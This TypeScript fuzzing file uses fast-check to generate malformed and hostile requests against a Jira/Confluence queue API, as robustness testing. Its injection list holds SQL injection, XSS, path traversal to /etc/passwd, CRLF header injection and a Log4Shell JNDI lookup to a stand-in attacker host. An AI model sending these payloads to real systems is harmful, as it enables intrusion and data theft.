/**
 * Hostile input, the generating half: fast-check arbitraries for requests a careless or malicious
 * caller could send RIQ. Submit bodies start from a valid envelope and are then broken (a missing,
 * extra or mistyped field, an unknown operation, bad options, huge or deeply nested values, bytes
 * that are not UTF-8, a `depends_on` of thousands of entries), or are raw bytes and random JSON;
 * the other routes get junk tokens, malformed percent-escapes, negative and huge `wait`, junk query
 * strings and headers; unknown routes and methods too. Injection strings go into the JQL/CQL
 * fields, which may well be accepted: the property only asks for a precise answer.
 */
import fc from 'fast-check';
import type { HostileRequest } from './check.js';

export const SUBMIT = '/api/queue/submit';

/** One valid payload per operation: the base every submit mutation starts from. */
export const VALID_PAYLOADS: Record<string, Record<string, unknown>> = {
  'jira.get_task': { task_id: 'MD-1' },
  'jira.create_task': { title: 'T', project_id: 'MD' },
  'jira.update_task': { task_id: 'MD-1', title: 'T' },
  'jira.transition_task': { task_id: 'MD-1', target_status: 'Done' },
  'jira.add_comment': { task_id: 'MD-1', comment: 'c' },
  'jira.search_tasks': { jql: 'project = MD' },
  'confluence.get_page': { page_id: '1' },
  'confluence.create_page': { title: 'T', content: 'c', space_id: 'MD' },
  'confluence.update_page': { page_id: '1', content: 'c' },
  'confluence.search_pages': { query: 'x' },
};
const OPERATION_NAMES = Object.keys(VALID_PAYLOADS);

export const INJECTIONS = [
  `' OR 1=1 --`,
  `project = MD OR project != MD ORDER BY created DESC`,
  `"; DROP TABLE requests; --`,
  `assignee = currentUser() AND text ~ "\\"*"`,
  `type = page AND space = "MD" OR creator != null`,
  `title ~ "*" AND ancestor = 1 OR 1 = 1`,
  `{"$ne": null}`,
  `\${jndi:ldap://attacker.example/a}`,
  `<script>alert(1)</script>`,
  `../../../../etc/passwd`,
  `{{req_0123456789abcdef0123456789abcdef.key}}`,
  `{{constructor.prototype}}`,
  `%00%0d%0aSet-Cookie: x=1`,
  `\u0000\u0001\u001f`,
  `\r\nX-Injected: 1`,
  `   `,
  `ORDER BY`,
  `\ud800`,
  `🙂`.repeat(50),
  'a'.repeat(4_001),
];

const printable = fc.string({
  unit: fc.integer({ min: 0x20, max: 0x7e }).map((c) => String.fromCharCode(c)),
});
const anyText = fc.oneof(
  fc.string({ unit: 'grapheme', maxLength: 40 }),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.constantFrom(...INJECTIONS),
);
/** Values of every JSON type, including the wrong ones for any field. */
const wrongValue: fc.Arbitrary<unknown> = fc.oneof(
  fc.constant(null),
  fc.boolean(),
  fc.integer(),
  fc.double(),
  fc.constantFrom(-1, 0, 1e308, -1e308, Number.MAX_SAFE_INTEGER + 2, 1.5),
  anyText,
  fc.array(fc.jsonValue({ maxDepth: 2 }), { maxLength: 4 }),
  fc.dictionary(fc.string({ maxLength: 8 }), fc.jsonValue({ maxDepth: 2 }), { maxKeys: 3 }),
);

function nested(depth: number, leaf: string, kind: 'array' | 'object'): string {
  const open = kind === 'array' ? '[' : '{"a":';
  const close = kind === 'array' ? ']' : '}';
  return open.repeat(depth) + leaf + close.repeat(depth);
}

function fakeToken(hex: string): string {
  return `req_${hex.padEnd(32, '0').slice(0, 32)}`;
}
const hexToken = fc.stringMatching(/^[0-9a-f]{32}$/).map((h) => `req_${h}`);

/** Broken envelopes, as JSON text (most) or raw text (a few). */
const envelopeMutation: fc.Arbitrary<{ name: string; body: string | Buffer }> = fc
  .tuple(fc.constantFrom(...OPERATION_NAMES), fc.nat(1_000_000))
  .chain(([operation, n]) => {
    const base = () => ({ operation, payload: { ...VALID_PAYLOADS[operation] } }) as Record<string, unknown>;
    const payloadKeys = Object.keys(VALID_PAYLOADS[operation]!);
    const key = payloadKeys[n % payloadKeys.length]!;
    const json = (name: string, arb: fc.Arbitrary<Record<string, unknown>>) =>
      arb.map((body) => ({ name, body: JSON.stringify(body) }));
    return fc.oneof(
      json('missing operation', fc.constant((({ operation: _o, ...rest }) => rest)(base()))),
      json('missing payload', fc.constant({ operation })),
      json('missing payload field', fc.constant({ operation, payload: {} })),
      json(
        'operation of the wrong type',
        wrongValue.filter((v) => typeof v !== 'string').map((v) => ({ ...base(), operation: v })),
      ),
      json(
        'unknown operation',
        fc
          .oneof(
            anyText,
            fc.constantFrom('jira.drop_database', 'JIRA.GET_TASK', 'jira.', '__proto__', 'toString'),
          )
          .filter((o) => !OPERATION_NAMES.includes(o))
          .map((o) => ({ ...base(), operation: o })),
      ),
      json(
        'payload of the wrong type',
        wrongValue
          .filter((v) => typeof v !== 'object' || v === null || Array.isArray(v))
          .map((v) => ({ ...base(), payload: v })),
      ),
      json(
        `payload.${key} of the wrong type`,
        wrongValue
          .filter((v) => typeof v !== 'string')
          .map((v) => ({ ...base(), payload: { ...VALID_PAYLOADS[operation], [key]: v } })),
      ),
      json(
        'extra payload field',
        fc
          .tuple(fc.string({ minLength: 1, maxLength: 12 }), wrongValue)
          .filter(([k]) => !payloadKeys.includes(k) && k !== '__proto__')
          .map(([k, v]) => ({ ...base(), payload: { ...VALID_PAYLOADS[operation], [k]: v } })),
      ),
      json(
        'extra envelope field',
        fc
          .tuple(fc.string({ minLength: 1, maxLength: 12 }), wrongValue)
          .filter(
            ([k]) =>
              ![
                'operation',
                'payload',
                'priority',
                'idempotency_key',
                'depends_on',
                'after_consistency_token',
                'fresh',
                'fire_and_forget',
                'routing',
                '__proto__',
              ].includes(k),
          )
          .map(([k, v]) => ({ ...base(), [k]: v })),
      ),
      json(
        'bad priority',
        fc.oneof(wrongValue, fc.constantFrom('urgent', 'HIGH', '')).map((v) => ({ ...base(), priority: v })),
      ),
      json(
        'bad idempotency_key',
        fc
          .oneof(
            fc.constantFrom('', ' ', 'a b', 'ключ', 'k'.repeat(256), 'tab\there', 'nul\u0000'),
            wrongValue.filter((v) => typeof v !== 'string'),
          )
          .map((v) => ({ ...base(), idempotency_key: v })),
      ),
      json(
        'bad option type',
        fc
          .tuple(
            fc.constantFrom('fresh', 'fire_and_forget', 'routing', 'after_consistency_token'),
            wrongValue,
          )
          .filter(([, v]) => typeof v !== 'boolean' && v !== 'adaptive' && v !== 'queued')
          .map(([k, v]) => ({ ...base(), [k]: v })),
      ),
      json(
        'bad after_consistency_token',
        fc
          .constantFrom(
            'cst_',
            'cst_XYZ',
            `cst_${'0'.repeat(31)}`,
            `req_${'0'.repeat(32)}`,
            `cst_${'g'.repeat(32)}`,
          )
          .map((t) => ({ ...base(), after_consistency_token: t })),
      ),
      json(
        'depends_on not an array',
        wrongValue.filter((v) => !Array.isArray(v)).map((v) => ({ ...base(), depends_on: v })),
      ),
      json(
        'depends_on of junk entries',
        fc
          .array(
            fc.oneof(
              wrongValue,
              hexToken.map((t) => t.toUpperCase()),
            ),
            { minLength: 1, maxLength: 5 },
          )
          .map((d) => ({ ...base(), depends_on: d })),
      ),
      json(
        'depends_on with a duplicate',
        hexToken.map((t) => ({ ...base(), depends_on: [t, t] })),
      ),
      json(
        'depends_on of too many tokens',
        fc.integer({ min: 21, max: 3_000 }).map((n) => ({
          ...base(),
          depends_on: Array.from({ length: n }, (_v, i) => fakeToken(i.toString(16))),
        })),
      ),
      json(
        'depends_on of 10,000 entries',
        fc
          .constantFrom(1, 'x', null)
          .map((v) => ({ ...base(), depends_on: Array.from({ length: 10_000 }, () => v) })),
      ),
      json(
        'unknown depends_on tokens',
        fc
          .array(hexToken, { minLength: 1, maxLength: 20 })
          .map((d) => ({ ...base(), depends_on: [...new Set(d)] })),
      ),
      json(
        'template not in depends_on',
        hexToken.map((t) => ({
          ...base(),
          payload: { ...VALID_PAYLOADS[operation], [key]: `{{${t}.key}}` },
        })),
      ),
      // May be valid: a search field holding an injection string is just text to Jira/Confluence.
      json(
        'injection in a query field',
        fc
          .tuple(fc.constantFrom(...INJECTIONS), fc.boolean())
          .map(([text, jira]) =>
            jira
              ? { operation: 'jira.search_tasks', payload: { jql: text }, routing: 'queued' }
              : { operation: 'confluence.search_pages', payload: { query: text }, routing: 'queued' },
          ),
      ),
      json(
        'injection in an id field',
        fc
          .constantFrom(...INJECTIONS)
          .map((text) => ({ ...base(), payload: { ...VALID_PAYLOADS[operation], [key]: text } })),
      ),
      fc
        .tuple(
          fc.integer({ min: 33, max: 30_000 }),
          fc.constantFrom('array', 'object') as fc.Arbitrary<'array' | 'object'>,
        )
        .map(([depth, kind]) => ({
          name: `${kind}s nested ${depth} deep in the payload`,
          body: `{"operation":"${operation}","payload":{"${key}":${nested(depth, '"MD-1"', kind)}}}`,
        })),
      fc.integer({ min: 33, max: 30_000 }).map((depth) => ({
        name: `nested ${depth} deep in an extra field`,
        body: `{"operation":"${operation}","payload":${JSON.stringify(VALID_PAYLOADS[operation])},"x":${nested(depth, '1', 'array')}}`,
      })),
      fc.integer({ min: 131_073, max: 600_000 }).map((size) => ({
        name: `huge body (${size} bytes of payload)`,
        body: JSON.stringify({
          ...base(),
          payload: { ...VALID_PAYLOADS[operation], [key]: 'x'.repeat(size) },
        }),
      })),
      fc.integer({ min: 1_000, max: 40_000 }).map((n) => ({
        name: `${n} extra payload fields`,
        body: JSON.stringify({
          ...base(),
          payload: Object.fromEntries(Array.from({ length: n }, (_v, i) => [`f${i}`, i])),
        }),
      })),
      fc.nat().map((cut) => {
        const text = JSON.stringify(base());
        return { name: 'truncated JSON', body: text.slice(0, cut % text.length) };
      }),
      fc.uint8Array({ minLength: 1, maxLength: 8 }).map((bad) => ({
        name: 'invalid UTF-8 in a string',
        body: Buffer.concat([
          Buffer.from(`{"operation":"${operation}","payload":{"${key}":"`),
          Buffer.from([0xff, ...bad, 0xc0]),
          Buffer.from('"}}'),
        ]),
      })),
    );
  });

const rawBody: fc.Arbitrary<{ name: string; body: string | Buffer }> = fc.oneof(
  fc.uint8Array({ maxLength: 200 }).map((b) => ({ name: 'random bytes', body: Buffer.from(b) })),
  fc.jsonValue({ maxDepth: 4 }).map((v) => ({ name: 'random JSON', body: JSON.stringify(v) ?? 'null' })),
  fc
    .constantFrom(
      '',
      ' ',
      'null',
      '[]',
      '""',
      '0',
      'true',
      '{',
      '}',
      '{"operation":',
      '\ufeff{}',
      '{}{}',
      '{"a":1,}',
    )
    .map((body) => ({ name: 'JSON fragment', body })),
  fc
    .constantFrom(
      Buffer.from([0xef, 0xbb, 0xbf, 0x7b, 0x7d]),
      Buffer.from([0xfe, 0xff, 0x00, 0x7b]),
      Buffer.from([0xc3, 0x28]),
      Buffer.from([0xed, 0xa0, 0x80]),
      Buffer.from([0xf4, 0x90, 0x80, 0x80]),
    )
    .map((body) => ({ name: 'invalid or odd UTF-8', body })),
);

const junkHeaderValue = printable.map((s) => s.slice(0, 200));
const headers: fc.Arbitrary<Record<string, string>> = fc.oneof(
  { weight: 3, arbitrary: fc.constant({ 'content-type': 'application/json' }) },
  fc.record(
    {
      'content-type': fc.constantFrom(
        'text/plain',
        'application/x-www-form-urlencoded',
        'application/json; charset=latin1',
        '',
      ),
      'content-encoding': fc.constantFrom('gzip', 'br', 'identity'),
      accept: fc.oneof(
        junkHeaderValue,
        fc.constantFrom('text/plain;q=abc, */*;q=-1', 'application/xml', '*/*;q=1e999'),
      ),
      'x-riq-caller': fc.oneof(
        fc.constantFrom('', ' ', 'arn:aws:iam::000000000000:user/other', "' OR 1=1 --", 'x'.repeat(8_000)),
        junkHeaderValue,
      ),
      'x-forwarded-for': junkHeaderValue,
      'x-amz-date': junkHeaderValue,
      authorization: fc.constantFrom('AWS4-HMAC-SHA256 Credential=x', 'Bearer x', 'Basic Og=='),
    },
    { requiredKeys: [] },
  ),
);

/** A string as a path segment or query part: mostly percent-encoded, sometimes with broken escapes. */
const pathPart: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: anyText.map((s) => encodeURIComponent(s.replace(/[\ud800-\udfff]/g, 'x'))) },
  fc.constantFrom(
    '%',
    '%ZZ',
    '%E0%A4%A',
    '%C0%AF',
    '%00',
    '..',
    '%2e%2e',
    '%2F',
    '%FF%FE',
    'req_%30',
    '~',
    '*',
  ),
  hexToken,
  fc.constantFrom('', 'req_', `req_${'0'.repeat(31)}`, `req_${'G'.repeat(32)}`, `REQ_${'0'.repeat(32)}`),
);

const queryString: fc.Arbitrary<string> = fc
  .array(fc.tuple(pathPart, pathPart), { maxLength: 4 })
  .map((pairs) => (pairs.length === 0 ? '' : `?${pairs.map(([k, v]) => `${k}=${v}`).join('&')}`));

const waitValue = fc.oneof(
  fc
    .constantFrom(
      '-1',
      '-0',
      '1.5',
      '1e3',
      '0x10',
      'NaN',
      'Infinity',
      '',
      ' 1',
      '+1',
      '999999',
      '1000000',
      '99999999999999999999',
    )
    .map(encodeURIComponent),
  fc.integer({ min: -1_000_000, max: -1 }).map(String),
  fc.bigInt({ min: 10n ** 7n, max: 10n ** 30n }).map(String),
  pathPart,
);

function req(name: string, method: string, path: string, h: Record<string, string>, body?: string | Buffer) {
  return { name, method, path, headers: h, ...(body !== undefined ? { body } : {}) } satisfies HostileRequest;
}

const submitRequest: fc.Arbitrary<HostileRequest> = fc
  .tuple(fc.oneof({ weight: 4, arbitrary: envelopeMutation }, rawBody), headers)
  .map(([{ name, body }, h]) => req(`submit: ${name}`, 'POST', SUBMIT, h, body));

const resultRequest: fc.Arbitrary<HostileRequest> = fc
  .tuple(pathPart, fc.option(waitValue, { nil: undefined }), queryString, headers)
  .map(([token, wait, extra, h]) => {
    const q = wait === undefined ? extra : `?wait=${wait}${extra.replace('?', '&')}`;
    return req('result: junk token or wait', 'GET', `/api/queue/result/${token}${q}`, h);
  });

const resultWaitRequest: fc.Arbitrary<HostileRequest> = fc
  .tuple(hexToken, waitValue)
  .map(([token, wait]) =>
    req('result: unknown token, bad wait', 'GET', `/api/queue/result/${token}?wait=${wait}`, {}),
  );

const deadLetterRequest: fc.Arbitrary<HostileRequest> = fc.oneof(
  fc
    .tuple(
      fc.array(
        fc.tuple(
          fc.constantFrom('limit', 'service', 'cursor', 'page', 'LIMIT', ''),
          fc.oneof(
            pathPart,
            fc.constantFrom('0', '101', '-5', '1e2', 'bitbucket', 'JIRA'),
            fc
              .dictionary(
                fc.constantFrom('pk', 'status', 'created_at', 'x'),
                fc.oneof(fc.string(), fc.integer()),
                {
                  minKeys: 1,
                },
              )
              .map((o) => Buffer.from(JSON.stringify(o)).toString('base64url')),
          ),
        ),
        { minLength: 1, maxLength: 3 },
      ),
      headers,
    )
    .map(([pairs, h]) =>
      req(
        'dead letters: bad list query',
        'GET',
        `/api/queue/dead-letters?${pairs.map(([k, v]) => `${k}=${v}`).join('&')}`,
        h,
      ),
    ),
  fc
    .tuple(pathPart, fc.constantFrom('POST', 'DELETE'), headers)
    .map(([token, method, h]) =>
      req(
        `dead letters: ${method === 'POST' ? 'retry' : 'purge'} of a junk token`,
        method,
        method === 'POST' ? `/api/queue/dead-letters/${token}/retry` : `/api/queue/dead-letters/${token}`,
        h,
      ),
    ),
  fc
    .tuple(
      fc.oneof(
        rawBody.filter((b) => String(b.body).trim() !== '' && String(b.body).trim() !== '{}'),
        wrongValue
          .filter((v) => v !== 'jira' && v !== 'confluence')
          .map((v) => ({ name: 'bad service', body: JSON.stringify({ service: v }) })),
        fc.constant({ name: 'extra field', body: '{"service":"jira","all":true}' }),
      ),
      headers,
    )
    .map(([{ name, body }, h]) =>
      req(`dead letters: redrive, ${name}`, 'POST', '/api/queue/dead-letters/redrive', h, body),
    ),
);

const KNOWN_PATHS = [
  SUBMIT,
  '/api/queue/result/req_0123456789abcdef0123456789abcdef',
  '/api/queue/health',
  '/api/queue/metrics',
  '/api/queue/circuit-breakers',
  '/api/queue/dead-letters',
  '/api/queue/dead-letters/redrive',
];

const routeRequest: fc.Arbitrary<HostileRequest> = fc.oneof(
  fc
    .tuple(
      fc.constantFrom('PUT', 'PATCH', 'OPTIONS', 'TRACE', 'PROPFIND', 'DELETE', 'POST'),
      fc.constantFrom(...KNOWN_PATHS),
    )
    .filter(([m, p]) => !(m === 'POST' && (p === SUBMIT || p.endsWith('/redrive'))))
    .filter(([m, p]) => !(m === 'DELETE' && p.startsWith('/api/queue/dead-letters/')))
    .map(([m, p]) =>
      req('wrong method on a known route', m, p, {}, m === 'POST' || m === 'PUT' ? '{}' : undefined),
    ),
  fc
    .tuple(
      fc.array(pathPart, { minLength: 0, maxLength: 6 }),
      fc.constantFrom('GET', 'POST', 'DELETE', 'PUT'),
      fc.boolean(),
    )
    .map(([parts, m, under]) =>
      req(
        'unknown route',
        m,
        `${under ? '/api/queue/' : '/'}${parts.join('/')}x`,
        {},
        m === 'GET' ? undefined : '{}',
      ),
    ),
  fc
    .tuple(
      fc.constantFrom('/api/queue/health', '/api/queue/metrics', '/api/queue/circuit-breakers'),
      queryString,
      headers,
    )
    .map(([p, q, h]) => req('read route with junk query and headers', 'GET', `${p}${q}`, h)),
  fc
    .constantFrom(
      '/api/queue/submit/',
      '//api/queue/submit',
      '/api/queue/../queue/health',
      '/API/QUEUE/HEALTH',
      '/api/queue/result/',
      '/api/queue/result',
      `/api/queue/result/${'a'.repeat(8_000)}`,
      '/api/queue/dead-letters/redrive/retry',
      '/api/queue/dead-letters//retry',
      '*',
    )
    .map((p) => req('odd path', 'GET', p, {})),
);

/** Every kind of hostile request, weighted towards submit bodies. */
export function hostileRequest(): fc.Arbitrary<HostileRequest> {
  return fc.oneof(
    { weight: 10, arbitrary: submitRequest },
    { weight: 2, arbitrary: resultRequest },
    { weight: 1, arbitrary: resultWaitRequest },
    { weight: 2, arbitrary: deadLetterRequest },
    { weight: 2, arbitrary: routeRequest },
  );
}

/** `runs` hostile requests, the same ones for the same seed. */
export function sampleHostile(seed: number, runs: number): HostileRequest[] {
  return fc.sample(hostileRequest(), { seed, numRuns: runs });
}
